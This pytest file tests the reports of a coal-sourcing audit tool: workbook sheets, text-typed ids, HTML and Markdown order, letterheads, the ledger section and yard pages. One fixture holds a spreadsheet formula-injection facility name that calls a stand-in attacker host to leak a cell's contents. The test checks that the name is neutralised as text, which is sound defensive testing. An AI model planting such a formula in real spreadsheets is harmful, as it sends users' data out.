"""What `coaltrace report` writes, opened with a reader: the workbook's sheets, headers, text-typed ids
and neutralised formulas; the HTML and Markdown in order and in Chinese; a bureau's letterhead and
templates; the ledger section; the yard page with fields of today and of tomorrow."""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from coaltrace.cli import app
from coaltrace.report.ledger import ledger_sections
from coaltrace.rules import run_audit
from coaltrace.store import Store
from coaltrace.yard.sheet import render_yard_html
from tests.provenance_helpers import mine, sale

pytestmark = pytest.mark.slow

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1, "click")'
SHEETS = {
    "zh": ["汇总", "问题线索", "证据", "涉险流向", "问题台账"],
    "en": ["Summary", "Findings", "Evidence", "Flows at risk", "Problem ledger"],
}


@pytest.fixture(scope="module")
def month(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("files")
    res = CliRunner().invoke(app, ["demo", str(out), "--scale", "0.02", "--seed", "3"])
    assert res.exit_code == 0, res.output
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A yard with a formula for a name, an id with leading zeros, that shipped coal it never had."""
    path = tmp_path_factory.mktemp("hostile") / "audit.duckdb"
    with Store(path) as s:
        mine(s, "0012")
        s.con.execute(
            "INSERT INTO facilities (facility_id, name, kind, county, lat, lon) VALUES (?, ?, 'yard', '泽州县', 35.5, 112.8)",
            ["0099", HOSTILE_NAME],
        )
        s.con.execute("UPDATE facilities SET lat = 35.6, lon = 112.7 WHERE facility_id = '0012'")
        sale(s, "0012", "0099", 100, "2021-12-02")
        sale(s, "0099", "0012", 900, "2021-12-05")
        run_audit(s, "2021-12")
    return path


def _report(db: Path, out: Path, lang: str, *extra: str) -> CliRunner:
    res = CliRunner().invoke(
        app, ["--lang", lang, "report", "-p", "2021-12", "--out", str(out), "--db", str(db), *extra]
    )
    assert res.exit_code == 0, res.output
    return res


def _header(ws: Any) -> list[str]:
    return [c.value for c in ws[1]]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_workbook_has_its_sheets_headers_and_text_ids(month: Path, tmp_path: Path, lang: str) -> None:
    _report(month / "coaltrace.duckdb", tmp_path, lang)
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    assert wb.sheetnames == SHEETS[lang]  # the audit filed the ledger: its sheet comes last
    findings = wb[SHEETS[lang][1]]
    head = _header(findings)
    if lang == "zh":
        assert head[:4] == ["问题编号", "规则编号", "规则名称", "严重程度"]
        assert {"单位名称", "县区", "期间", "涉险吨数", "可能的误报"} <= set(head)
    rows = list(findings.iter_rows(min_row=2, values_only=False))
    assert rows
    period = head.index("期间" if lang == "zh" else "period")
    for row in rows:
        # Ids and the period are text in text cells: 2021-12 is not a date, an id keeps its zeros.
        assert row[0].data_type == "s" and row[0].number_format == "@"
        assert row[period].value == "2021-12" and row[period].data_type == "s" and row[period].number_format == "@"
    if lang == "zh":
        assert {r[3].value for r in rows} <= {"严重", "高", "中", "低"}
    assert findings.freeze_panes == "A2" and findings.auto_filter.ref.startswith("A1:")
    assert findings.page_setup.orientation == "landscape" and findings.print_title_rows == "$1:$1"
    # One evidence row per source line, each with its file and line, as many as the findings say they have.
    evidence = wb[SHEETS[lang][2]]
    ev_head = _header(evidence)
    file_col, line_col = (
        ev_head.index("文件" if lang == "zh" else "file"),
        ev_head.index("行号" if lang == "zh" else "line"),
    )
    ev_rows = list(evidence.iter_rows(min_row=2, values_only=True))
    assert ev_rows and all(r[file_col] and isinstance(r[line_col], int) for r in ev_rows)
    with Store(month / "coaltrace.duckdb", read_only=True) as s:
        stored = sum(len(json.loads(e)["rows"]) for (e,) in s.engine.rows("SELECT evidence FROM findings"))
    assert len(ev_rows) == stored
    assert max(len(str(c)) for r in ev_rows for c in r if c is not None) < 2000


def test_a_formula_for_a_name_stays_text_in_the_workbook(hostile: Path, tmp_path: Path) -> None:
    _report(hostile, tmp_path, "zh")
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named and all(c.value == "'" + HOSTILE_NAME for c in named)
    ids = [c for c in cells if c.value in ("0099", "0012")]
    assert ids and all(c.data_type == "s" for c in ids)
    # The flows sheet lists the yard's flow out first: it carried the most coal of no licensed source.
    flows = list(wb["涉险流向"].iter_rows(min_row=2, values_only=True))
    assert flows[0][:2] == ("0099", "'" + HOSTILE_NAME) and flows[0][7] == 900


def test_the_page_says_gaps_first_in_chinese_with_names_and_false_positives(month: Path, tmp_path: Path) -> None:
    _report(month / "coaltrace.duckdb", tmp_path, "zh")
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    order = [page.index(f'<section id="{s}">') for s in ("gaps", "headline", "charts", "ledger", "rules", "params")]
    assert order == sorted(order)
    assert re.search(r"本期 \d+ 项；销号率", page)  # the audit filed its findings in the ledger
    with Store(month / "coaltrace.duckdb", read_only=True) as s:
        f = s.query(
            "SELECT f.rule_id, f.county, r.name FROM findings f JOIN facilities r USING (facility_id) "
            "WHERE f.rule_id = 'facility_unsourced_output' LIMIT 1"
        )[0]
    assert f["name"] in page and f"<h3>{f['county']}：" not in page  # the heading is "county: n findings"
    assert re.search(rf"<h3>{re.escape(f['county'])}: \d+ 条问题线索</h3>", page)
    # The rule's known false positives, from its file.
    assert "期初库存未申报（请补录库存表）" in page
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert md.index("## 数据缺口") < md.index("## 主要数字") < md.index("## 问题台账")
    assert "期初库存未申报（请补录库存表）" in md and "| 严重 |" in md


def test_a_bureau_puts_its_letterhead_and_its_own_template(month: Path, tmp_path: Path) -> None:
    logo = tmp_path / "logo.png"
    logo.write_bytes(
        base64.b64decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="
        )
    )
    config = tmp_path / "coaltrace.toml"
    config.write_text('[report]\nletterhead = "晋城市能源局 <审计科>"\nlogo = "logo.png"\n', encoding="utf-8")
    _report(month / "coaltrace.duckdb", tmp_path / "a", "zh", "--config", str(config))
    page = (tmp_path / "a" / "report.html").read_text(encoding="utf-8")
    assert "晋城市能源局 &lt;审计科&gt;" in page  # the config's text is text
    assert 'src="data:image/png;base64,iVBOR' in page
    own = tmp_path / "templates"
    own.mkdir()
    (own / "letterhead.html.j2").write_text(
        '<header class="letterhead">泽州县能源局 {{ t("title", period="") }}</header>', encoding="utf-8"
    )
    _report(month / "coaltrace.duckdb", tmp_path / "b", "zh", "--template-dir", str(own))
    page = (tmp_path / "b" / "report.html").read_text(encoding="utf-8")
    assert "泽州县能源局 煤炭来源审计报告" in page and "<svg" in page
    res = CliRunner().invoke(
        app, ["report", "-p", "2021-12", "--out", str(tmp_path / "c"), "--db", str(month / "coaltrace.duckdb"),
              "--template-dir", str(tmp_path / "nope")]
    )  # fmt: skip
    assert res.exit_code == 2 and "nope" in res.output


def test_the_ledger_section_shows_the_periods_items_by_county(month: Path, tmp_path: Path) -> None:
    db = month / "coaltrace.duckdb"
    listed = CliRunner().invoke(app, ["ledger", "list", "--period", "2021-12", "--db", str(db), "--json"])
    assert listed.exit_code == 0, listed.output
    items = json.loads(listed.stdout)
    assert items, "the demo month's audit files items"
    by_county: dict[str, int] = {}
    for item in items:
        county = item["county"] or "none"  # an item known by a plate or a power account may have no county
        by_county[county] = by_county.get(county, 0) + 1
    _report(db, tmp_path / "r", "en")
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    start = page.index('<section id="ledger">')
    section = page[start : page.index("</section>", start)]
    assert f"{len(items)} items this period" in section
    for county, n in by_county.items():
        assert re.search(rf"<td>{re.escape(county)}</td><td>{n}</td>", section), county
    wb = openpyxl.load_workbook(tmp_path / "r" / "report.xlsx")
    rows = list(wb["Problem ledger"].iter_rows(min_row=2, values_only=True))
    assert {r[0]: r[1] for r in rows} == by_county  # counts stay numbers in the workbook
    # Without a ledger the section says so, and the workbook has no ledger sheet.
    (none,) = ledger_sections(None, "zh")
    assert "尚无问题台账" in (none.note or "") and not none.rows


def test_the_yard_page_shows_fields_it_has_and_leaves_out_those_it_has_not() -> None:
    bare = render_yard_html([{"facility_id": "Y1", "period": "2021-12"}], "zh")
    assert "Y1" in bare and "—" in bare and "地址" not in bare and "电话" not in bare
    full = {
        "facility_id": "Y1",
        "period": "2021-12",
        "name": "某煤场<b>",
        "kind": "washery",
        "address": "泽州县南村镇 1 号",
        "legal_rep": "张三",
        "phone": "0356-1234567",
        "stock": {
            "opening_t": 100.0,
            "inflow_t": 2000.0,
            "yield_factor": 0.85,
            "usable_inflow_t": 1700.0,
            "production_t": 0.0,
            "outflow_t": 565.5,
            "closing_computed_t": 1234.5,
            "closing_counted_t": None,
        },
        "buyers": [{"buyer_id": "P1", "name": "某电厂", "kind": "power_plant", "tonnes": 900.0, "trips": 30}],
        "findings": [
            {
                "finding_id": "f-1",
                "rule_id": "intake_no_waybill",
                "severity": "medium",
                "title_zh": "入库无运单",
                "title_en": "Intake with no waybill",
                "entity_kind": "intake",
                "entity_id": "I9",
                "tonnes_at_risk": 35.2,
                "tonnes_role": "records",
                "evidence": [
                    {
                        "table": "intakes",
                        "record_id": "I9",
                        "at": "2021-12-03 08:00",
                        "plate": "晋E12345",
                        "tonnes": 35.2,
                        "file": "入库.csv",
                        "line": 17,
                    },
                ],  # fmt: skip
                "evidence_total": 5,
                "false_positives": [{"zh": "运单补录延迟", "en": "late"}],
            }
        ],
        "checklist": [
            {
                "check": 2,
                "title": {"zh": "收货渠道是否正规", "en": "intake channels"},
                "what_to_do": {"zh": "逐车核对入库单", "en": "check each intake"},
                "findings": ["f-1"],
            }
        ],
        "sign": [{"zh": "检查人员（签字）", "en": "inspector (signature)"}],
        "power_accounts": [{"account_id": "A1", "kwh": 52000}],
    }
    page = render_yard_html([full], "zh")
    for shown in ("某煤场&lt;b&gt;", "洗煤厂", "泽州县南村镇 1 号", "张三", "0356-1234567", "1,234.500", "1,700.000",
                  "×0.85", "某电厂", "电厂", "晋E12345", "入库.csv:17", "另 3 条", "运单补录延迟", "逐车核对入库单",
                  "问题 1", "检查人员（签字）", "power_accounts", "52000"):  # fmt: skip
        assert shown in page, shown


def test_change_against_the_previous_audited_period_and_who_has_most(month: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.duckdb"
    db.write_bytes((month / "coaltrace.duckdb").read_bytes())
    with Store(db) as s:
        run_audit(s, "2021-11")  # a month with no records: no findings, a data gap
        now = int(s.engine.scalar("SELECT count(*) FROM findings WHERE period = '2021-12'"))
        # Among the facilities with a critical finding, the one with the most findings of any severity.
        most = s.query(
            "SELECT facility_id, count(*) AS n FROM findings WHERE period = '2021-12' AND facility_id IN "
            "(SELECT facility_id FROM findings WHERE period = '2021-12' AND severity = 'critical') "
            "GROUP BY 1 ORDER BY n DESC LIMIT 2"
        )
    assert most[0]["n"] > most[1]["n"]  # the sample month has one clear head
    _report(db, tmp_path / "r", "zh")
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    card = page[page.index('id="change"') : page.index("</div>\n</div>", page.index('id="change"'))]
    assert "与上一审计期间 2021-11 相比" in card and f"+{now:,}" in card
    facilities = page[page.index('<section id="facilities">') :]
    # The facility with the most critical findings heads the list, whatever its tonnes.
    assert facilities.index(most[0]["facility_id"]) < facilities.index("</tr>", facilities.index("<tbody>"))


def test_a_store_that_was_loaded_but_not_audited_has_a_report(month: Path, tmp_path: Path) -> None:
    db = tmp_path / "loaded.duckdb"
    res = CliRunner().invoke(app, ["load", str(month / "sample" / "data"), "--db", str(db)])
    assert res.exit_code == 0, res.output
    _report(db, tmp_path / "r", "zh")
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert "尚未运行审计" in page and 'class="chart-map"' in page  # the facilities are on the map still
    assert "尚无问题台账" in page  # nothing filed before an audit
    wb = openpyxl.load_workbook(tmp_path / "r" / "report.xlsx")
    assert wb.sheetnames == SHEETS["zh"][:4]
